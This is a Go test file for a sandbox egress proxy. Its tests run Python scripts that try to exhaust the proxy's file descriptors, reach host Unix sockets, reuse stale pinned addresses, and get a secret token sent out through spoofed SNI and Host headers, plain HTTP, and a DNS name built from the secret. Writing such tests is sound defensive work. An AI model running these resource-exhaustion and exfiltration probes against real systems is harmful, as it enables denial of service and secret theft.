package host

import (
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/runfleet/runfleet/edge/audit"
	"github.com/runfleet/runfleet/edge/proxy"
	"github.com/runfleet/runfleet/shared/hostproto"
	"github.com/runfleet/runfleet/shared/runspec"
	"github.com/runfleet/runfleet/tests/kit/await"
)

// openDescriptors counts this process's open descriptors: edge's, since
// the host runs in the test's process.
func openDescriptors(t *testing.T) int {
	t.Helper()
	ents, err := os.ReadDir("/proc/self/fd")
	must(t, err)
	return len(ents)
}

// A task cannot take edge's descriptors: it opens more TLS connections off
// its loopback than edge serves a task at once and holds them all, and
// edge serves proxy.DefaultMaxTaskConns of them at most (each holds a
// descriptor of edge's), closing the others at once. Unbounded, one task
// took about 19,000 of the 20,000 descriptors of this machine's limit,
// and two of its processes took them all.
func TestTaskCannotTakeEdgesDescriptors(t *testing.T) {
	f := newFixture(t)
	e := f.open(hostOptions{})
	const opened = proxy.DefaultMaxTaskConns + 200
	// A handshake that completes was accepted and is being served by edge;
	// one refused ends at once.
	prompt := fmt.Sprintf(`export UPSTREAM=%s
/usr/bin/python3 - <<'EOF'
import os, resource, signal, socket, ssl
resource.setrlimit(resource.RLIMIT_NOFILE, (%[2]d + 64, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
host, port = os.environ['UPSTREAM'].split(':')
ip = socket.gethostbyname(host)
ctx = ssl.create_default_context()
held, refused = [], 0
for _ in range(%[2]d):
    s = socket.create_connection((ip, int(port)), timeout=10)
    try:
        held.append(ctx.wrap_socket(s, server_hostname=host))
    except OSError:
        refused += 1
        s.close()
print('served', len(held), 'refused', refused, flush=True)
signal.pause()
EOF
`, f.upstreamHost, opened)
	before := openDescriptors(t)
	run := e.start(runspec.Request{Prompt: prompt, Secrets: e.apiToken()})
	t.Cleanup(func() { e.client.Cancel(bg, run.RunID) })
	out := e.waitOutput(run.RunID, "refused")
	want := fmt.Sprintf("served %d refused %d", proxy.DefaultMaxTaskConns, opened-proxy.DefaultMaxTaskConns)
	if !strings.Contains(out, want) {
		t.Errorf("the task's connections: %q, want %q", out, want)
	}
	if grew := openDescriptors(t) - before; grew > proxy.DefaultMaxTaskConns+64 {
		t.Errorf("one task's connections hold %d more of edge's descriptors, want at most %d and a few of its own", grew, proxy.DefaultMaxTaskConns)
	}
	if !strings.Contains(e.logs.String(), "the task's connections reached their bound") {
		t.Errorf("edge did not log that the task reached its bound")
	}
}

// hostSocket is a service of the host's on a Unix socket anyone may
// connect to: it counts the connections it accepts, each sent tallyBanner.
type hostSocket struct {
	addr  string // a path, or "@name" for an abstract socket
	conns atomic.Int64
}

// newHostSocket listens on a socket under /run, where hosts keep their
// services' (systemd-resolved's varlink, D-Bus's system bus, journald's
// /dev/log, nscd, a database), or, abstract, on a name in the test's
// network namespace.
func newHostSocket(t *testing.T, abstract bool) *hostSocket {
	t.Helper()
	s := &hostSocket{addr: fmt.Sprintf("@runfleet-test-%d", os.Getpid())}
	if !abstract {
		dir, err := os.MkdirTemp("/run", "runfleet-test-")
		must(t, err)
		t.Cleanup(func() { os.RemoveAll(dir) })
		must(t, os.Chmod(dir, 0o755))
		s.addr = filepath.Join(dir, "service.sock")
	}
	l, err := net.Listen("unix", s.addr)
	must(t, err)
	t.Cleanup(func() { l.Close() })
	if !abstract {
		must(t, os.Chmod(s.addr, 0o777))
	}
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.conns.Add(1)
			io.WriteString(c, tallyBanner)
			c.Close()
		}
	}()
	c, err := net.Dial("unix", s.addr)
	must(t, err)
	c.Close()
	return s
}

// A task's network is its own, and a Unix socket is no way around it: the
// host's services on Unix sockets under /run (a resolver that answers from
// the host's DNS and hosts file, the system bus, the journal, a database)
// and on abstract ones (which belong to a network namespace) are no more
// the task's than its loopback services are, for a task with secrets and
// one without.
func TestTaskCannotReachTheHostsUnixSockets(t *testing.T) {
	f := newFixture(t)
	path, abstract := newHostSocket(t, false), newHostSocket(t, true)
	e := f.open(hostOptions{})
	prompt := fmt.Sprintf(`/usr/bin/python3 - <<'EOF'
import errno, socket
for label, addr in (('path', %q), ('abstract', '\0' + %q[1:])):
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(addr)
        print(label, 'connected, read', len(s.recv(64)))
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, e))
EOF
`, path.addr, abstract.addr)
	for _, secrets := range [][]runspec.Secret{e.apiToken(), nil} {
		run := e.start(runspec.Request{Prompt: prompt, Secrets: secrets})
		e.waitEnd(run.RunID)
		out := e.output(run.RunID)
		if !strings.Contains(out, "path ENOENT") || !strings.Contains(out, "abstract ECONNREFUSED") {
			t.Errorf("the task with %d secrets reached a Unix socket of the host's: %s", len(secrets), out)
		}
	}
	for _, s := range []*hostSocket{path, abstract} {
		if n := s.conns.Load() - 1; n != 0 {
			t.Errorf("the host's Unix socket %s accepted %d connections from the tasks", s.addr, n)
		}
	}
}

// A pin stands for its name in its attempt alone: an address a task kept
// from an earlier attempt (in its home, which outlives attempts) stands
// for nothing in the next, and a connection to it is a connection to that
// address, which edge's guard refuses as reserved.
func TestAPinDiesWithItsAttempt(t *testing.T) {
	f := newFixture(t)
	e := f.open(hostOptions{})
	host, port, _ := net.SplitHostPort(f.tunnelHost)
	prompt := fmt.Sprintf(`/usr/bin/python3 - <<'EOF'
import os, socket
saved = os.path.join(os.environ['HOME'], 'pin')
if not os.path.exists(saved):
    ip = socket.gethostbyname(%[1]q)
    open(saved, 'w').write(ip)
    s = socket.create_connection((ip, %[2]s), timeout=10)
    print('first', ip, 'connected', flush=True)
else:
    ip = open(saved).read()
    s = socket.create_connection((ip, %[2]s), timeout=10)
    s.settimeout(10)
    print('again', ip, 'read', len(s.recv(64)), flush=True)
EOF
`, host, port)
	run := e.start(runspec.Request{Prompt: prompt, Secrets: e.apiToken()})
	e.waitEnd(run.RunID)
	out := e.output(run.RunID)
	var pin string
	if _, err := fmt.Sscanf(out[strings.Index(out, "first "):], "first %s connected", &pin); err != nil || !strings.HasPrefix(pin, "198.18.") {
		t.Fatalf("the first attempt's output: %q", out)
	}
	f.waitAudit(run.RunID, f.tunnelHost)
	if _, err := e.client.Retry(bg, run.RunID); err != nil {
		t.Fatal(err)
	}
	e.waitFor(run.RunID, func(r hostproto.Run) bool { return r.Attempt == 2 && hostproto.TerminalStatus(r.Status) })
	if out := e.output(run.RunID); !strings.Contains(out, "again "+pin+" read 0") {
		t.Errorf("the second attempt's connection to the first's pin: %q, want it closed unanswered", out)
	}
	old := net.JoinHostPort(pin, port)
	if l := f.waitAudit(run.RunID, old)[old]; l.Action != audit.Denied || l.Reason != "upstream refused: a reserved address, not in upstream.allowPrivate" {
		t.Errorf("the audit of the old pin: %+v, want denied as reserved", l)
	}
}

// transparentAttacks is a task's Python that tries the transparent front
// the ways an attacker would, with the placeholder in hand, and prints one
// line "LABEL RESULT" for each (a status line, or an errno name).
const transparentAttacks = `/usr/bin/python3 - <<'EOF'
import errno, os, socket, ssl
up, up_port = os.environ['UPSTREAM'].split(':'); up_port = int(up_port)
tn = os.environ['TUNNEL'].split(':')[0]
ph = os.environ['API_TOKEN']
granted, other = socket.gethostbyname(up), socket.gethostbyname(tn)
def tls(label, ip, sni, host):
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        t = ctx.wrap_socket(socket.create_connection((ip, up_port), timeout=10), server_hostname=sni)
        t.sendall(('GET /%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n' % (label, host, ph)).encode())
        print(label, t.recv(4096).split(b'\r\n')[0].decode(), flush=True)
    except OSError as e:
        print(label, errno.errorcode.get(e.errno, repr(e)), flush=True)
tls('legit', granted, up, '%s:%d' % (up, up_port))
tls('sni-of-another', granted, tn, '%s:%d' % (up, up_port))
tls('host-of-another', granted, up, '%s:%d' % (tn, up_port))
tls('pin-of-another', other, up, '%s:%d' % (up, up_port))
s = socket.create_connection((granted, up_port), timeout=10)
s.sendall(('GET /plain/%s HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\n\r\n' % (ph, up, up_port, ph)).encode())
print('plain', s.recv(4096).split(b'\r\n')[0].decode(), flush=True)
named = socket.gethostbyname(ph + '.example.com')
try:
    print('placeholder-name', len(socket.create_connection((named, 443), timeout=10).recv(64)), flush=True)
except OSError as e:
    print('placeholder-name', errno.errorcode.get(e.errno, repr(e)), flush=True)
EOF
`

// The transparent front holds against a task that has its placeholder and
// tries to get the value sent elsewhere (egress open, the widest): the pin
// of the granted name with another name's SNI or Host is 421; the pin of
// another name with the granted name's SNI is a tunnel to that other name,
// which gets the placeholder alone; plain HTTP to the granted name is 403
// and sends nothing; a DNS name made of the placeholder resolves, and
// nothing of edge's records it unredacted. The upstream receives the real
// value once, for the legitimate request.
func TestTransparentFrontHoldsAgainstATaskWithItsPlaceholder(t *testing.T) {
	f := newFixture(t)
	e := f.open(hostOptions{})
	run := e.start(runspec.Request{Prompt: "export UPSTREAM=" + f.upstreamHost + " TUNNEL=" + f.tunnelHost + "\n" + transparentAttacks, Secrets: e.apiToken()})
	e.waitEnd(run.RunID)
	e.wantOutput(run.RunID,
		"legit HTTP/1.1 200 OK\n",
		"sni-of-another HTTP/1.1 421 Misdirected Request\n",
		"host-of-another HTTP/1.1 421 Misdirected Request\n",
		// The tunnel's far end is the same server (both names are
		// 127.0.0.1 to edge's resolver): it answers, without the value.
		"pin-of-another HTTP/1.1 200 OK\n",
		"plain HTTP/1.1 403 Forbidden\n",
		// Nothing resolves the name upstream, so edge closes.
		"placeholder-name 0\n",
	)
	saw := f.upstreamSaw()
	if len(saw) != 2 || saw[0] != "Bearer "+realSecret || !strings.HasPrefix(saw[1], "Bearer ph-") {
		t.Errorf("the upstream saw %q, want the real value for the legitimate request and the placeholder through the tunnel", saw)
	}
	tunnelled := "tunnel.example.test:" + port(f.upstream)
	wantAudit := []string{
		f.upstreamHost + " substituted 200 /legit",
		f.upstreamHost + " denied 421 /sni-of-another",
		f.upstreamHost + " denied 421 /host-of-another",
		tunnelled + " tunnelled 200 ",
		f.upstreamHost + " blocked 403 /plain/[placeholder]",
		"[placeholder].example.com:443 denied 502 ",
	}
	var actions map[string]int
	await.Cond(t, 10*time.Second, fmt.Sprintf("the audit to hold %q", wantAudit), func() bool {
		actions = map[string]int{}
		for _, l := range f.auditEntries() {
			actions[fmt.Sprintf("%s %s %d %s", l.Host, l.Action, l.Status, l.Path)]++
		}
		for _, w := range wantAudit {
			if actions[w] != 1 {
				return false
			}
		}
		return true
	})
	b, err := os.ReadFile(filepath.Join(f.dataDir, "logs", audit.FileName))
	must(t, err)
	if strings.Contains(strings.ToLower(string(b)), "ph-") || strings.Contains(strings.ToLower(e.logs.String()), "ph-") {
		t.Errorf("the audit or the log holds the placeholder, in some case")
	}
}
